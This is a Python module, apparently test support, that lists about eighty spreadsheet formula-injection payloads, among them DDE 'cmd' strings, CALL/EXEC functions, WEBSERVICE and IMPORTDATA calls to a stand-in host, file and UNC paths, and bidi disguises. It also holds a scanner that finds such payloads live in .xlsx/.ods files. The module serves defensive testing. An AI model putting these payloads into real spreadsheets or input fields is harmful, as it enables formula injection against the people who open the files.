"""Texts that a spreadsheet could take for something to run, as a client or a product may be called, and a scanner.

More than the sixty that the goal asks for: see the groups. The marker of each is a number that stands nowhere else.
"""

from __future__ import annotations

import io
import re
import zipfile
from typing import Final
from xml.etree import ElementTree

_SHAPES: Final = (
    # plain formulas
    "=1+{m}",
    "+1+{m}",
    "-1-{m}",
    "@SUM({m})",
    "=SUM(A1:A9)*{m}",
    '="{m}"&A1',
    "={m}",
    "=-{m}",
    "=+{m}",
    "-{m}",
    "+{m}",
    "@{m}",
    # full-width forms
    "＝1+{m}",
    "＋1+{m}",
    "－1-{m}",
    "＠SUM({m})",
    # hidden behind spaces, quotes, marks
    " =1+{m}",
    "\u00a0=1+{m}",
    "\ufeff=1+{m}",
    "\u200b=1+{m}",
    "\u2003=1+{m}",
    "'=1+{m}",
    "''=1+{m}",
    '"=1+{m}"',
    "\t=1+{m}",
    "\t@{m}",
    "`=1+{m}",
    # dynamic data exchange, commands
    "=cmd|' /C calc {m}'!A0",
    "@cmd|' /C calc {m}'!A0",
    "+cmd|' /C calc {m}'!A0",
    "-2+3+cmd|' /C calc {m}'!A0",
    '=DDE("cmd","/C {m}","x")',
    "=MSEXCEL|'\\..\\..\\{m}'!''",
    # links, the web
    '=HYPERLINK("http://example.org/{m}","x")',
    '=HYPERLINK("#{m}","x")',
    '=WEBSERVICE("http://example.org/{m}")',
    '=FILTERXML(WEBSERVICE("http://example.org/{m}"),"//a")',
    '=IMPORTXML("http://example.org/{m}","//a")',
    '=IMPORTDATA("http://example.org/{m}")',
    '=IMAGE("http://example.org/{m}")',
    '=RTD("{m}","","x")',
    "http://example.org/{m}",
    "https://example.org/{m}?a=1&b=2",
    "mailto:{m}@example.org",
    "file:///etc/{m}",
    "\\\\host\\share\\{m}",
    "internal:{m}!A1",
    "external:{m}.xlsx",
    # other workbooks, other notations
    "='[{m}.xls]S'!A1",
    "='C:\\dir\\[{m}.xls]S'!A1",
    "='file:///tmp/{m}.ods'#$S.A1",
    "=R1C1+{m}",
    '=INDIRECT("{m}")',
    "{{=1+{m}}}",
    "{{1;2;{m}}}",
    "=LAMBDA(x,x+{m})(1)",
    '=CALL("Kernel32","{m}","J",0)',
    '=EXEC("{m}")',
    # what looks like markup of a file
    "<f>1+{m}</f>",
    "&lt;f&gt;{m}&amp;",
    "]]><f>{m}</f><![CDATA[",
    "_x003D_1+{m}",
    "_x0000_=1+{m}",
    # letters that change what is seen, or that are not seen
    "\u202e=1+{m}",
    "\u200f=1+{m}",
    "\u2066=1+{m}\u2069",
    # functions under the names that files give them, very long, links that run
    "_xlfn.CONCAT({m})",
    '=_xlfn.WEBSERVICE("http://example.org/{m}")',
    "={m}" + "+A1" * 2600,
    "javascript:alert({m})",
    # behind a separator, a line, a percent sign: another program may cut there
    "a;=1+{m}",
    "a,=1+{m}",
    "a\t=1+{m}",
    'a"\n=1+{m}',
    "%0A=1+{m}",
    "a|=cmd|' /C calc {m}'!A0",
)


def marker(place: int) -> str:
    """A number that stands in one payload alone."""
    return str(710_001 + 13 * place)


SIXTY: Final = 60
"""Payloads that the goal asks for, at least."""
PAYLOADS: Final = tuple(shape.format(m=marker(place)) for place, shape in enumerate(_SHAPES))
MARKERS: Final = re.compile("|".join(marker(place) for place in range(len(PAYLOADS))))


def live_parts(workbook: bytes) -> list[str]:
    """Formulas, links and connections of a workbook file that contain a payload; parts that only those need.

    A sheet may bear one in its name: references to the sheets of the very file are no find.
    """
    found = []
    with zipfile.ZipFile(io.BytesIO(workbook)) as package:
        ours = _own_references(package)
        for name in package.namelist():
            if re.search(r"externalLink|connections|queryTable|ddeLink|oleObject|activeX|embeddings", name):
                found.append(name)
            if not name.endswith((".xml", ".rels")):
                continue
            for element in ElementTree.fromstring(package.read(name)).iter():  # noqa: S314
                tag = element.tag.rpartition("}")[2]
                if tag in _LIVE_TAGS or (
                    element.get("TargetMode") == "External" and not _opens(element.get("Target", ""))
                ):
                    found.append(f"{name}: {tag} {element.attrib}")
                texts = [element.text or ""] if tag in {"f", "definedName", "formula", "formula1", "formula2"} else []
                texts += list(element.attrib.values()) if tag in {"Relationship", "hyperlink", "a"} else []
                texts += [value for key, value in element.attrib.items() if key.endswith(("}formula", "}href"))]
                found += [f"{name}: {tag} {text}" for text in texts if MARKERS.search(ours.sub("", unescaped(text)))]
    return found


_LIVE_TAGS: Final = frozenset(
    ("ddeLink", "dde-link", "dde-source", "cell-range-source", "database-source-sql", "event-listener", "oleObject")
)
"""Elements of .xlsx and .ods files that fetch or run something."""


def _opens(target: str) -> bool:
    """Whether a link goes to a page or to a letter, which a person has to open."""
    return target.startswith(("https://", "http://", "mailto:"))


def _own_references(package: zipfile.ZipFile) -> re.Pattern[str]:
    """What stands before the ! of a reference to one of the sheets of the file, and the columns of its tables.

    In the name of a column, an apostrophe stands before brackets, # , @ and apostrophes.
    """
    found: list[str] = ["(?!)"]
    for name in package.namelist():
        if name != "xl/workbook.xml" and not name.startswith("xl/tables/"):
            continue
        for element in ElementTree.fromstring(package.read(name)).iter():  # noqa: S314
            tag, title = element.tag.rpartition("}")[2], unescaped(element.get("name", ""))
            if tag == "sheet":
                found.append(re.escape("'" + title.replace("'", "''") + "'!"))
            elif tag == "tableColumn":
                found.append(re.escape("[" + re.sub(r"([\[\]#'@])", r"'\1", title) + "]"))
    return re.compile("|".join(found))


def unescaped(text: str) -> str:
    """What Excel shows where a file has escaped characters (ECMA-376 part 1, 22.9.2.19)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)
